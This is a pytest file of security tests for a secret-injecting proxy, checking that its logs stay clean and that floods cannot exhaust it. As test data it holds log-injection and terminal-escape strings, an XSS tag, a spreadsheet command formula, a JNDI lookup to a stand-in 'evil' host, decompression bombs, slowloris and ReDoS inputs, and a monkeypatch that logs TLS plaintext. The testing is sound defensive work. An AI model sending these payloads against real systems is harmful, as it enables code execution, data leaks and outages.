"""LOG and DOS: nothing in the logs that should not be, and one client cannot take all there is."""

from __future__ import annotations

import contextlib
import gzip
import json
import resource
import threading
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import brotli
import pytest
import zstandard

from tests.attacks import stage
from tests.attacks.client import Client, accepted, ask, refused, send
from tests.attacks.leaks import Detector
from tests.attacks.sites import Scripts
from tests.attacks.stage import ALLOWED, IS_NAIVE, KEY_A, Coatcheck, Start, Target
from tests.attacks.watch import Attempt
from tests.e2e.harness import environ, wait_until
from tests.e2e.upstream import Upstream
from tests.e2e.wire import request

KEY = "Authorization: Bearer {{secrets.key.a}}"
needs_coatcheck = pytest.mark.skipif(IS_NAIVE, reason="mitmdump is not started anew for a test")

NASTY: dict[str, bytes] = {
    "CR LF": b'%0d%0a{"event":"forged"}',
    "ANSI": b"%1b[2J%1b[31m",
    "OSC 8": b"%1b]8;;http://evil%1b\\",
    "bidi": "\u202e\u2066".encode(),
    "line separator": "\u2028\u2029".encode(),
    "C1": b"\x9b31m\x85",
    "quotes": b'","event":"forged","x":"',
    "format": b"%s%n%d{0}{x.__class__}%(levelname)s",
    "long": b"A" * 15_000,
    "backslashes": b"\\u000a\\n\\x0a",
    "HTML": b"<script>alert(1)</script>",
    "formula": b"=cmd|'/c%20calc'!A1",
    "JNDI": b"${jndi:ldap://evil/x}",
    "not UTF-8": b"\xff\xfe\xc0\x80",
}
WHERE = ["path", "query", "agent", "method", "host", "user", "secret"]


@pytest.mark.parametrize("name", NASTY)
@pytest.mark.parametrize("where", WHERE)
def test_log_01_what_clients_write(
    where: str, name: str, alice: Client, stranger: Client, coatcheck: Coatcheck, upstream: Upstream
) -> None:
    """One JSON object a line, ASCII, capped; no line is forged and no terminal is led."""
    text = NASTY[name]
    files = [coatcheck.log, *(coatcheck.home / "audit").iterdir()]
    sizes = {path: path.stat().st_size for path in files}
    head = b" HTTP/1.1\r\nHost: allowed.test\r\n"
    bad = b"X: {{secrets.no.such}}\r\n\r\n"
    data = {
        "path": b"GET /" + text + head + bad,
        "query": b"GET /?q=" + text + head + bad,
        "agent": b"GET /" + head + b"User-Agent: " + text + b"\r\n" + bad,
        "method": text + b" /" + head + bad,
        "host": b"GET / HTTP/1.1\r\nHost: " + text + b"\r\n" + bad,
        "secret": b"GET /" + head + b'X: {{secrets["' + text + b'"]}}\r\n\r\n',
        "user": b"",
    }[where]
    if where == "user":
        line = b"Proxy-Authorization: Basic " + text[:100].hex().encode()
        with stranger.plain() as wire:
            refused(send(wire, b"CONNECT x.test:443" + head + line + b"\r\n\r\n"))
    else:
        ask(alice, data)
    for path, size in sizes.items():
        fresh = path.read_bytes()[size:]
        assert fresh.isascii()
        assert len(fresh) < 64 * 1024
        for line in fresh.splitlines():
            record = json.loads(line)
            assert record.get("event") != "forged"
            assert not any(c < " " or c == "\x7f" for c in line.decode())


def test_log_00_an_injection_is_on_record_by_name(
    alice: Client, coatcheck: Coatcheck, upstream: Upstream
) -> None:
    before = len(coatcheck.audit())
    accepted(ask(alice, request("GET", "/echo/seen?q=hidden", KEY, host=ALLOWED)))
    records = json.dumps(coatcheck.audit()[before:])
    assert "key.a" in records
    assert "/echo/seen" in records
    assert KEY_A.decode() not in records


def test_log_04_an_endless_head_is_not_logged(alice: Client, coatcheck: Coatcheck) -> None:
    size = coatcheck.log.stat().st_size
    mark = b"typed-by-the-client"
    with alice.plain() as wire, contextlib.suppress(OSError):
        wire.send(b"GET http://allowed.test/ HTTP/1.1\r\nX: " + mark * 200_000)
    time.sleep(0.3)
    fresh = coatcheck.log.read_bytes()[size:]
    assert mark not in fresh
    assert len(fresh) < 4096


@pytest.mark.parametrize("said", [b"\x16\x03\x01\x00\x05typed", b"typed-by-the-client\r\n\r\n"])
def test_log_04_broken_handshakes_are_not_quoted(
    said: bytes, alice: Client, coatcheck: Coatcheck
) -> None:
    size = coatcheck.log.stat().st_size
    with alice.plain() as wire:
        accepted(send(wire, alice.connect_request(ALLOWED), is_head=True))
        wire.send(said)
        wire.sock.settimeout(1)
        with contextlib.suppress(OSError):
            wire.rest()
    assert b"typed" not in coatcheck.log.read_bytes()[size:]


NOISY = """\
import logging, ssl, threading, time
from OpenSSL import SSL

def everything():
    while True:  # whatever sets levels, now or later: they are turned up again
        logging.root.setLevel(logging.DEBUG)
        for logger in list(logging.root.manager.loggerDict.values()):
            if isinstance(logger, logging.Logger):
                logger.setLevel(logging.DEBUG)
                logger.disabled = False
                logger.propagate = True
        time.sleep(0.05)

threading.Thread(target=everything, daemon=True).start()

def quotes(owner, name):
    plain = getattr(owner, name)
    def call(self, data, *more):
        try:
            raise ValueError(bytes(data))
        except ValueError:
            logging.getLogger("chatty").exception("sends %r", bytes(data))
        return plain(self, data, *more)
    setattr(owner, name, call)

# Both libraries that see a request in the open, right before it leaves.
quotes(ssl.SSLObject, "write")
quotes(SSL.Connection, "send")
quotes(SSL.Connection, "sendall")
"""


@needs_coatcheck
def test_log_03_every_logger_at_debug(
    start: Start,
    client_of: Callable[..., Client],
    upstream: Upstream,
    scripts: Scripts,
    folder: Path,
    detector: Detector,
) -> None:
    """Also of one that quotes the request as it leaves: the name of the logger and no text."""
    site = folder / "noisy"
    site.mkdir()
    (site / "sitecustomize.py").write_text(NOISY)
    path = f"{site}:{environ()['PYTHONPATH']}"
    proxy = start(PYTHONPATH=path, PYTHONASYNCIODEBUG="1").wait_ready()
    alice = client_of(proxy, stage.ALICE, stage.ALICE_FROM)
    time.sleep(0.2)
    for said in (b"HTTP/1.1 200 OK\r\n%TOKEN%\r\n\r\n", b"%TOKEN%", b"HTTP/1.1 200 %TOKEN%\x00"):
        ask(alice, request("GET", scripts.add(said), KEY, host=ALLOWED))
    body = b'{"a": "{{secrets.key.a}}"}'
    accepted(ask(alice, request("POST", "/echo", KEY, host=ALLOWED, body=body)))
    with alice.plain() as wire:
        wire.send(alice.connect_request(ALLOWED) + b"\x16\x03\x01\x00\x05typed")
        with contextlib.suppress(OSError):
            wire.rest()
    assert [KEY_A in r.bytes for r in upstream.take()] == [True] * 4
    proxy.stop()
    log = proxy.log.read_bytes()
    assert b'"chatty"' in log, "nothing was quoted"
    assert detector.find(log) == []
    for quoted in (b"typed", b"sends", b"HTTP/1.1"):
        assert quoted not in log


def test_log_06_nothing_of_a_value_in_proc(
    proxy: Target, coatcheck: Coatcheck, detector: Detector
) -> None:
    for pid in coatcheck.processes():
        for name in ("cmdline", "environ"):
            with contextlib.suppress(PermissionError):
                assert detector.find(Path(f"/proc/{pid}/{name}").read_bytes()) == []


def test_own_07_no_core_dumps(coatcheck: Coatcheck) -> None:
    for pid in coatcheck.processes():
        limits = Path(f"/proc/{pid}/limits").read_text()
        (line,) = [line for line in limits.splitlines() if line.startswith("Max core file size")]
        assert line.split()[4:6] == ["0", "0"]


# --- DOS -----------------------------------------------------------------------------------------


def memory_kib(proxy: Target) -> int:
    status = [Path(f"/proc/{pid}/status").read_text() for pid in proxy.processes()]
    return sum(int(text.partition("VmRSS:")[2].split()[0]) for text in status)


SIZE = 300 << 20
BOMBS = {
    "gzip": lambda: gzip.compress(bytes(SIZE), 1),
    "deflate": lambda: zlib.compress(bytes(SIZE), 1),
    "br": lambda: brotli.compress(bytes(SIZE), quality=1),
    "zstd": lambda: zstandard.compress(bytes(SIZE)),
    "gzip, gzip": lambda: gzip.compress(gzip.compress(bytes(SIZE), 1)),
    "many members": lambda: gzip.compress(bytes(1 << 20), 1) * 300,
}


@pytest.mark.parametrize("coding", BOMBS)
def test_dos_01_bombs_in_answers(
    coding: str, alice: Client, upstream: Upstream, scripts: Scripts, proxy: Target
) -> None:
    """Withheld or broken off at the ratio, in bounded memory."""
    bomb = BOMBS[coding]()
    name = "gzip" if coding == "many members" else coding
    head = b"HTTP/1.1 200 OK\r\nContent-Encoding: %b\r\n" % name.encode()
    path = scripts.add(head + b"Content-Length: %d\r\n\r\n" % len(bomb) + bomb)
    before = memory_kib(proxy)
    with alice.tunnel() as wire:
        answer = send(wire, request("GET", path, KEY, host=ALLOWED))
    refused(answer, "response_withheld")
    came = len(answer.raw) if answer is not None else len(wire.buffer)
    assert came < 100 << 20
    assert memory_kib(proxy) - before < 64 * 1024


BOMBS_IN = {**BOMBS, "many members": lambda: gzip.compress(bytes(1 << 20), 1) * 300}


@pytest.mark.parametrize("coding", BOMBS_IN)
def test_dos_01_bombs_in_requests(
    coding: str, alice: Client, upstream: Upstream, proxy: Target
) -> None:
    """Refused at the ratio, in bounded memory, and the upstream never has a whole request."""
    name = "gzip" if coding == "many members" else coding
    lines = ("Content-Type: application/json", f"Content-Encoding: {name}", KEY)
    before = memory_kib(proxy)
    data = request("POST", "/echo", *lines, host=ALLOWED, body=BOMBS_IN[coding]())
    refused(ask(alice, data), "body_not_decodable", "body_too_large")
    assert memory_kib(proxy) - before < 64 * 1024
    assert [r for r in upstream.take() if r.raw_body.endswith(b"0\r\n\r\n")] == []


ENDLESS: dict[str, tuple[bytes, bytes]] = {
    "head line": (b"GET / HTTP/1.1\r\nHost: allowed.test\r\nX: ", b"x" * 65536),
    "head fields": (b"GET / HTTP/1.1\r\nHost: allowed.test\r\n", b"X: y\r\n" * 8192),
    "target": (b"GET /", b"x" * 65536),
    "method": (b"", b"X" * 65536),
    "chunk extension": (
        b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n5;",
        b"x" * 65536,
    ),
    "chunk size": (
        b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"0" * 65536,
    ),
    "trailer": (
        b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
        b"X: y\r\n" * 8192,
    ),
    "empty lines": (b"", b"\r\n" * 32768),
}


@pytest.mark.parametrize("name", ENDLESS)
def test_dos_02_endless(name: str, alice: Client, upstream: Upstream, proxy: Target) -> None:
    """Ended by the proxy long before 32 MiB, in bounded memory."""
    begin, block = ENDLESS[name]
    before, begun, sent = memory_kib(proxy), time.monotonic(), 0
    with alice.tunnel() as wire:
        with contextlib.suppress(OSError):
            wire.send(begin)
            wire.sock.settimeout(3)
            for _ in range(512):
                wire.send(block)
                sent += len(block)
        with contextlib.suppress(OSError):
            refused(wire.read(), "headers_too_large", "bad_request")
    assert memory_kib(proxy) - before < 32 * 1024
    assert time.monotonic() - begun < 10
    assert upstream.take() == []


REPLIES: dict[str, tuple[bytes, bytes]] = {
    "interim answers": (b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 2000),
    "head line": (b"HTTP/1.1 200 OK\r\nX: ", b"x" * 65536),
    "head fields": (b"HTTP/1.1 200 OK\r\n", b"X: y\r\n" * 8192),
    "reason": (b"HTTP/1.1 200 ", b"x" * 65536),
    "chunk extension": (
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;",
        b"x" * 65536,
    ),
    "trailer": (
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
        b"X: y\r\n" * 8192,
    ),
}


@pytest.mark.parametrize("name", REPLIES)
def test_dos_02_endless_answers(
    name: str, alice: Client, upstream: Upstream, scripts: Scripts, proxy: Target
) -> None:
    begin, block = REPLIES[name]
    path = scripts.add(begin, *[block] * 200)
    before = memory_kib(proxy)
    answer = ask(alice, request("GET", path, KEY, host=ALLOWED))
    refused(answer)
    assert memory_kib(proxy) - before < 32 * 1024


@pytest.mark.parametrize("kind", ["TCP alone", "half a head", "CONNECT alone", "half a handshake"])
def test_dos_03_slow_clients_do_not_keep_others_waiting(
    kind: str, alice: Client, bob: Client, upstream: Upstream
) -> None:
    said = {
        "TCP alone": b"",
        "half a head": b"GET http://allowed.test/ HTTP/1.1\r\nHost: al",
        "CONNECT alone": alice.connect_request(ALLOWED),
        "half a handshake": alice.connect_request(ALLOWED) + b"\x16\x03\x01\x02\x00\x01\x00",
    }[kind]
    socks = []
    try:
        for _ in range(150):
            socks.append(alice.world.connect("127.0.0.1", alice.port, alice.source))
            socks[-1].sendall(said)
        begun = time.monotonic()
        accepted(ask(bob, request("GET", "/echo", "X: {{secrets.key.b}}", host=ALLOWED)))
        assert time.monotonic() - begun < 5
    finally:
        for sock in socks:
            sock.close()


def test_dos_05_many_names_in_a_bounded_certificate_cache(
    alice: Client, proxy: Target, upstream: Upstream
) -> None:
    """A certificate for each; the cache is bounded, so memory does not follow the names.

    And meanwhile the others are served: one certificate is made at a time.
    """

    def flood(numbers: range) -> None:
        for number in numbers:
            with contextlib.suppress(OSError), alice.tunnel(f"h{number}.flood.test"):
                pass

    flood(range(120))
    settled = memory_kib(proxy)
    thread = threading.Thread(target=flood, args=(range(120, 360),))
    thread.start()
    begun = time.monotonic()
    accepted(ask(alice, request("GET", "/echo", KEY, host=ALLOWED)))
    assert time.monotonic() - begun < 5
    thread.join(60)
    assert memory_kib(proxy) - settled < 16 * 1024


LONG = 14_000  # as much as a target takes
REDOS_TEXTS = {
    "spaces": b" " * LONG + b"!",
    "opening braces": b"{" * LONG,
    "underscores": b"_" * LONG,
    "nearly names": b"{{secrets." * (LONG // 10),
    "nearly quoted": b'{{secrets["' * (LONG // 11),
    "quotes and backslashes": b'\\"' * (LONG // 2),
    "semicolons": b";" * LONG,
    "parameters": b"; a=b" * (LONG // 5),
    "commas": b", ," * (LONG // 3),
    "percents": b"%25" * (LONG // 3),
    "dots": b"a." * (LONG // 2),
    "slashes": b"/." * (LONG // 2),
    "digits": b"1" * LONG,
    "base64": b"QUFB" * (LONG // 4) + b"!",
}
REDOS_FIELDS = ["Content-Type", "Content-Encoding", "Transfer-Encoding", "Connection", "Host"]
REDOS_FIELDS += ["Content-Disposition", "Authorization", "Cookie", "Expect", "Accept-Encoding"]
REDOS_FIELDS += ["Content-Length", "Trailer", "Upgrade", "X-HTTP-Method-Override", "Range"]


@pytest.mark.parametrize("name", REDOS_TEXTS)
def test_dos_06_strings_against_expressions_in_heads(
    name: str, alice: Client, upstream: Upstream
) -> None:
    """In every field that is parsed, and in path and query. A backtracking one takes for ever."""
    text = REDOS_TEXTS[name]
    fields = [f"{field}: ".encode() + text for field in REDOS_FIELDS]
    said = [request("POST", "/echo", line, host=ALLOWED) for line in fields]
    escaped = text.replace(b" ", b"+")
    said += [request("GET", b"/" + escaped, host=ALLOWED)]
    said += [request("GET", b"/echo?k=" + escaped, host=ALLOWED)]
    begun = time.monotonic()
    for data in said:
        ask(alice, data)
    assert time.monotonic() - begun < len(said) * 1.0


@pytest.mark.parametrize("name", REDOS_TEXTS)
def test_dos_06_strings_against_expressions_in_what_comes_first(
    name: str, stranger: Client, dialled: Callable[[], list[Attempt]]
) -> None:
    """A stranger's credential and the target of a CONNECT."""
    text = REDOS_TEXTS[name]
    said = [
        request("GET", f"http://{ALLOWED}/", b"Proxy-Authorization: " + text, host=ALLOWED),
        request("GET", f"http://{ALLOWED}/", b"Proxy-Authorization: Basic " + text, host=ALLOWED),
        request("CONNECT", text.strip() + b":443", host=ALLOWED),
        request("GET", b"http://" + text.strip() + b"/", host=ALLOWED),
    ]
    begun = time.monotonic()
    for data in said:
        with stranger.plain() as wire:
            refused(send(wire, data))
    assert time.monotonic() - begun < len(said) * 1.0
    assert dialled() == []


@needs_coatcheck
def test_dos_07_more_connections_than_files(
    start: Start, client_of: Callable[..., Client], upstream: Upstream
) -> None:
    """Out of files it neither ends nor spins, and it goes on where it was once there are some."""
    proxy = start().wait_ready()
    alice = client_of(proxy, stage.ALICE, stage.ALICE_FROM)
    get = request("GET", "/echo", "X: {{secrets.key.a}}", host=ALLOWED)
    accepted(ask(alice, get))
    with (
        proxy.limited(resource.RLIMIT_NOFILE, lambda pid: open_files(pid) + 24),
        contextlib.ExitStack() as stack,
    ):
        for _ in range(100 * len(proxy.workers())):
            sock = alice.world.connect("127.0.0.1", proxy.port, alice.source)
            stack.callback(sock.close)
        time.sleep(1.2)
        used = proxy.cpu_s()
        time.sleep(1.5)
        assert proxy.cpu_s() - used < 1.0
        stack.close()
        # The limit is still as low; the connections are gone.
        wait_until(lambda: is_served(alice, get), 10)
    assert proxy.process.poll() is None


def open_files(pid: int) -> int:
    return len(list(Path(f"/proc/{pid}/fd").iterdir()))


def is_served(client: Client, data: bytes) -> bool:
    answer = ask(client, data)
    return answer is not None and answer.status == 200
